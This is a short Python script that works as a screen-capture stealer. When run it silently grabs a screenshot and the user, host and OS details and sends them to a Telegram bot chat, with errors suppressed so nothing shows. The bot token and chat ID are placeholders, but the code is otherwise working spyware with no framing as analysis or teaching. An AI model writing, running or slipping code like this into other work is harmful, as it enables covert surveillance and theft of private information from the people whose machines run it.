import io
import os
import platform

import requests
from PIL import ImageGrab

BOT_TOKEN = "0000000000:INERT_SAMPLE_NOT_A_REAL_BOT_TOKEN_xxxx"
CHAT_ID = "-1000000000000"


def _send():
    shot = ImageGrab.grab()
    buffer = io.BytesIO()
    shot.save(buffer, format="PNG")
    caption = "%s@%s %s" % (os.getlogin(), platform.node(), platform.platform())
    requests.post(
        "https://api.telegram.org/bot%s/sendPhoto" % BOT_TOKEN,
        data={"chat_id": CHAT_ID, "caption": caption},
        files={"photo": ("s.png", buffer.getvalue())},
        timeout=10,
    )


try:
    _send()
except Exception:
    pass
